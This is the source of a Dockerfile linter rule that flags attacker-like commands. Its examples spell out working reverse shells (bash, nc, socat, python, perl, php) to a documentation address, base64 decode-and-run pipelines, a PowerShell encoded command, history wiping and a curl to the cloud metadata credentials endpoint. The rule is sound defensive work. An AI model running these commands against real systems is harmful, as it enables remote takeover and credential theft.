import { isDecodedAndRun, runsDecoded } from "../../dockerfile/commands/decodedScripts.ts";
import { givesShell } from "../../dockerfile/commands/reverseShells.ts";
import { commandsOf } from "../../dockerfile/commands/scripts.ts";
import { editsInPlace } from "../../dockerfile/commands/sedCommands.ts";
import { remoteSourcesOf } from "../../dockerfile/files/remoteSources.ts";
import { fileSays } from "../../dockerfile/model/fileText.ts";
import type { Step } from "../../dockerfile/model/model.ts";
import { stepText } from "../../dockerfile/model/stepText.ts";
import { POSIX_SHELLS } from "../../knowledge/wrappers.ts";
import { sourceSpan } from "../../mappedText.ts";
import type { ShellCommand, ShellWord } from "../../shell/model.ts";
import { comparable } from "../../shell/words.ts";
import type { Span } from "../../text.ts";
import { defineRule, type Report } from "../rule.ts";

const MINERS =
	/(?:^|[/\s=@'"-])(xmrig|minerd|cpuminer(?:-multi)?|ethminer|nbminer|xmr-stak|stratum\+(?:tcp|ssl))(?:$|[/\s:.'"@]|-v?\d|-(?:linux|x86|amd64|cuda|static|multi))/i;
/** What the names of miners have one of. */
const MINER_PARTS = /miner|xmr|stratum/i;
const POWERSHELL = /powershell|pwsh/i;
const RUNS: ReadonlySet<string> = new Set(["RUN", "CMD", "ENTRYPOINT", "HEALTHCHECK"]);
const METADATA = /^(?:https?:\/\/)?(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200)(?:[/:]|$)/i;

export const suspiciousCommand = defineRule({
	id: "suspicious-command",
	title: "A command looks like the work of an attacker",
	category: "supply-chain",
	severity: "error",
	preset: "recommended",
	needs: "file",
	since: "0.1.0",
	subCodes: {
		"reverse-shell": "A shell is handed to another machine",
		"decode-and-execute": "A disguised script is run",
		miner: "A miner of cryptocurrency",
		traces: "Traces are wiped, or files are made hard to remove",
		kernel: "A setting of the kernel is written",
		metadata: "The cloud's metadata service is asked",
	},
	equivalents: [],
	onlyWith: {
		texts: [
			...["/dev/tcp/", "/dev/udp/", "ncat", "netcat", "nc.traditional", "socat", "nc ", "nc\t", "nc\\", 'nc"', "nc'"],
			...["dup2", "fdopen", "fsockopen", "tcpsocket", "open(stdin"],
			...["base64", "xxd", "b64decode", "unhexlify", "openssl", "powershell", "pwsh"],
			...["xmrig", "minerd", "cpuminer", "ethminer", "nbminer", "xmr-stak", "stratum+"],
			...["chattr", "histfile", "history", "/proc/sys", "169.254.169.254", "metadata.google.internal", "100.100.100.200"],
		],
	},
	why: "Nobody needs to disguise what a build does. A shell that is connected to another machine, a script that is decoded and run at once, a program that mines cryptocurrency, a question to the metadata service that hands out the machine's credentials: these are what attackers add to Dockerfiles, in pull requests, in examples to copy, in images on which others build.",
	remedy:
		"Find out who wrote it and why. If it is harmless after all, write it in the open: put a script into a file of its own, and suppress this finding with the reason.",
	references: [
		"https://attack.mitre.org/techniques/T1059/004/",
		"https://attack.mitre.org/techniques/T1027/",
		"https://attack.mitre.org/techniques/T1552/005/",
		"https://attack.mitre.org/techniques/T1496/",
	],
	examples: [
		{ caption: "A shell for somebody else", bad: "FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\n" },
		{ caption: "Decoded into a file", good: "FROM debian:12\nRUN echo aGkK | base64 -d > /greeting\n" },
		{
			caption: "Shells for others",
			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f\n',
		},
		{
			caption: "A shell for whoever connects",
			bad: "FROM debian:12\nRUN «socat» TCP:203.0.113.5:80 EXEC:'bash -li',pty,stderr\n",
		},
		{
			caption: "Decoded and run",
			bad: 'FROM debian:12\nRUN echo ZWNobyBoaQo= | «base64» -d | sh && «eval» "$(echo ZWNobyBoaQo= | base64 --decode)"\nRUN «python3» -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))" && echo 6563686f | «xxd» -r -p | bash -s\n',
		},
		{
			caption: "A connection that a shell reads",
			bad: 'FROM debian:12\nRUN exec 5<>/dev/tcp/203.0.113.5/80; «sh» <&5 >&5 2>&5\nRUN «python3» -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",80));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'\nRUN «perl» -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i")\' && «php» -r \'$s=fsockopen("203.0.113.5",80);exec("/bin/sh -i <&3 >&3");\'\n',
		},
		{
			caption: "Decoded into a shell, without a pipe to it or with something in between",
			bad: 'FROM debian:12\nSHELL ["/bin/bash", "-c"]\nRUN «bash» <(echo aGk= | base64 -d) && «.» <(echo aGk= | base64 -d) && «bash» <<< $(echo aGk= | base64 -d) && «bash» -c "$(base64 -d <<< aGk=)" && «bash» <(base64 -d /s.b64)\nRUN «$(echo aGk= | rev | base64 -d)»\nRUN echo aGk= | «base64» -d | env -i sh && echo aGk= | «base64» -d | xargs -0 sh -c && echo aGk= | busybox «base64» -d | busybox sh\nRUN sudo env «base64» -d x | sh && sudo timeout 5 «base64» -d x | sudo sh && echo hi | sudo sh -c "cat - | «base64» -d | sh"\n',
		},
		{
			caption: "Settings and credentials in other ways",
			bad: "FROM debian:12\nADD «http://169.254.169.254/latest/user-data» /x\nRUN «sed» -i s/0/1/ /proc/sys/net/ipv4/ip_forward && echo 1 | «dd» of=/proc/sys/kernel/panic\n",
		},
		{
			caption: "Connections that nobody runs, decoded data",
			good: 'FROM debian:12\nSHELL ["/bin/bash", "-c"]\nRUN diff a <(echo aGk= | base64 -d) && cat <<< $(echo aGk= | base64 -d) && bash run.sh <(echo aGk= | base64 -d) && echo aGk= | base64 -d | xargs -n1 echo && sed s/0/1/ /proc/sys/kernel/panic && sed -i -f /proc/sys/x y\nRUN python3 -c \'import socket;s=socket.socket();s.connect(("db",5432))\' && php -r \'exit(fsockopen("db",5432)?0:1);\'\nHEALTHCHECK CMD exec 3<>/dev/tcp/localhost/80 && echo GET / >&3 && grep ok <&3\n',
		},
		{
			caption: "Miners, traces, settings, credentials",
			bad: 'FROM debian:12\nRUN git clone «https://github.com/xmrig/xmrig.git»\nRUN «chattr» +i /etc/passwd && «unset» HISTFILE && «history» -cw && echo 1 «>» /proc/sys/net/ipv4/ip_forward && echo 1 | «tee» /proc/sys/net/ipv4/ip_forward\nRUN curl -s «http://169.254.169.254/latest/meta-data/iam/security-credentials/» > /c\nENTRYPOINT ["/x", «"stratum+tcp://pool.example.com:3333"»]\n',
		},
		{
			caption: "PowerShell",
			bad: "FROM mcr.microsoft.com/windows/servercore:ltsc2022\nRUN powershell «-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA»\n",
		},
		{
			caption: "Decoded into a file, ports that are tried, helpers that serve",
			good: "FROM debian:12\nRUN echo aGkK | base64 -d > /f && base64 -d f | tar x && head -c 16 /dev/urandom | base64 && nc -z localhost 80 && timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && bash -i -c 'bundle install' && cat /proc/sys/kernel/shmmax && rm -f ~/.bash_history\nHEALTHCHECK CMD echo > /dev/tcp/localhost/80\nCMD nc -lk -p 80 -e handler.sh\nFROM debian:12\nCMD socat TCP-LISTEN:8080,fork EXEC:\"/bin/bash /srv/handler.sh\"\n",
		},
		{
			caption: "Only words",
			good: "FROM debian:12\nENV HISTFILE=/data/history\nRUN echo 'RemoteIPInternalProxy 169.254.0.0/16' > /etc/x && echo base64 -d && apt-get install -y ncat history-tools && pip install minerd-exporter && echo \"bash -i >& /dev/tcp/x\" > README\n",
		},
	],
	check(file) {
		const reports: Report[] = [];
		const namesMiners = fileSays(file, MINER_PARTS);
		const namesPowershell = fileSays(file, POWERSHELL);
		for (const stage of file.stages) {
			for (const step of stage.steps) {
				if (step.keyword === "ADD") reports.push(...inSources(step));
				if (!RUNS.has(step.keyword)) continue;
				const mayMine = namesMiners && MINERS.test(stepText(step));
				for (const command of commandsOf(step)) {
					if (isLookedAt(command)) reports.push(...inCommand(step, command));
					if (mayMine) reports.push(...mining(command));
				}
				if (step.exec !== undefined) reports.push(...inWords(step));
				if (namesPowershell) reports.push(...inPowershell(step));
			}
		}
		return reports;
	},
});

/** Without shells and interpreters. */
const PROGRAMS: ReadonlySet<string> = new Set(
	"nc ncat netcat nc.traditional socat tee sed dd base64 openssl xxd eval . source chattr unset history ln curl wget".split(" "),
);
const INTERPRETER = /^(?:python|perl|ruby|php)/;

/** Whether a command can be anything that {@link inCommand} reports. */
function isLookedAt({ program, name, redirects }: ShellCommand): boolean {
	if (program === undefined) return name?.parts[0]?.kind === "command";
	return redirects.length > 0 || PROGRAMS.has(program) || POSIX_SHELLS.has(program) || INTERPRETER.test(program);
}

function inCommand(step: Step, command: ShellCommand): readonly Report[] {
	const { program, name } = command;
	if (name === undefined) return [];
	const reports: Report[] = [];
	if (runsDecoded(command))
		reports.push({
			span: name.span,
			message: `${program ?? "The shell"} runs a text that is decoded on the way`,
			subCode: "decode-and-execute",
		});
	if (program === undefined) return reports;
	const texts = command.args.map(comparable);
	if (givesShell(step, command, texts))
		reports.push({ span: name.span, message: `${program} hands a shell to another machine`, subCode: "reverse-shell" });
	if (isDecodedAndRun(step, command, texts))
		reports.push({ span: name.span, message: `What ${program} decodes is run at once`, subCode: "decode-and-execute" });
	const wiped = wipesTraces(program, texts);
	if (wiped !== undefined) reports.push({ span: name.span, message: wiped, severity: "warning", subCode: "traces" });
	const kernel = step.keyword === "RUN" ? kernelPlace(command, texts) : undefined;
	if (kernel !== undefined)
		reports.push({
			span: kernel,
			message: "A setting of the build machine's kernel is written",
			severity: "warning",
			subCode: "kernel",
		});
	if (step.keyword === "RUN" && (program === "curl" || program === "wget")) {
		const word = command.args.find((candidate) => METADATA.test(comparable(candidate)));
		if (word !== undefined) reports.push(metadataReport(word.span));
	}
	return reports;
}

/** What writes a setting of the kernel: a redirection, or the name of a program that writes the file that it is given. */
function kernelPlace(command: ShellCommand, texts: readonly string[]): Span | undefined {
	const { program, name, args, redirects } = command;
	const redirect = redirects.find(({ operator, target }) => operator.startsWith(">") && target?.value?.startsWith("/proc/sys/"));
	if (redirect !== undefined) return { start: redirect.span.start, end: redirect.span.start + redirect.operator.length };
	const given = args.some(({ value }, index) => value?.startsWith("/proc/sys/") && !isScriptFile(args[index - 1]));
	const writes =
		(program === "tee" && given) ||
		(given && editsInPlace(command)) ||
		(program === "dd" && texts.some((text) => text.startsWith("of=/proc/sys/")));
	return writes ? name?.span : undefined;
}

/** `sed -f FILE`: the next word is what sed reads its script from. */
function isScriptFile(option: ShellWord | undefined): boolean {
	return option !== undefined && /^(?:-[a-zA-Z]*f|--file)$/.test(option.text);
}

/** `ADD http://169.254.169.254/…`. */
function inSources(step: Step): readonly Report[] {
	return remoteSourcesOf(step).flatMap(({ text, resolved, span }) => (METADATA.test(resolved ?? text) ? [metadataReport(span)] : []));
}

function metadataReport(span: Span): Report {
	return {
		span,
		message: "The build asks the cloud's metadata service, which hands out credentials",
		severity: "warning",
		subCode: "metadata",
	};
}

function mining({ program, name, args }: ShellCommand): readonly Report[] {
	if (program === undefined || name === undefined || program === "echo" || program === "printf") return [];
	for (const word of [...args, name]) {
		const miner = MINERS.exec(comparable(word));
		if (miner === null) continue;
		return [{ span: word.span, message: `${miner[1]} mines cryptocurrency`, severity: "warning", subCode: "miner" }];
	}
	return [];
}

function wipesTraces(program: string, texts: readonly string[]): string | undefined {
	if (program === "chattr")
		return texts.some((text) => /^\+[a-zA-Z]*i/.test(text)) ? "chattr makes files hard to change and to remove" : undefined;
	if (program === "history" && texts.some((text) => /^-[a-z]*c/.test(text))) return "The shell's history is thrown away";
	if (program === "unset" && texts.includes("HISTFILE")) return "The shell is told to forget what it ran";
	if (program === "ln" && texts.includes("/dev/null") && texts.some((text) => /\.(?:bash_|zsh_|ash_)?history$/.test(text)))
		return "The shell's history is thrown away";
	return undefined;
}

/** Words of exec form. */
function inWords(step: Step): readonly Report[] {
	if (commandsOf(step).length > 0) return [];
	return (step.exec?.elements ?? []).flatMap(({ span, value }): readonly Report[] => {
		const miner = value.length < 300 ? MINERS.exec(value) : null;
		return miner === null ? [] : [{ span, message: `${miner[1]} mines cryptocurrency`, severity: "warning", subCode: "miner" }];
	});
}

function inPowershell(step: Step): readonly Report[] {
	const { text } = step.arguments;
	if (!POWERSHELL.test(text)) return [];
	const match = /(?<=\s)-e(?:c|nc|ncodedcommand)?\s{1,5}["']?[A-Za-z0-9+/=]{40}/i.exec(text);
	if (match === null) return [];
	const rest = /^[A-Za-z0-9+/=]{0,20000}/.exec(text.slice(match.index + match[0].length))?.[0].length ?? 0;
	return [
		{
			span: sourceSpan(step.arguments, match.index, match.index + match[0].length + rest),
			message: "PowerShell runs a disguised script",
			subCode: "decode-and-execute",
		},
	];
}
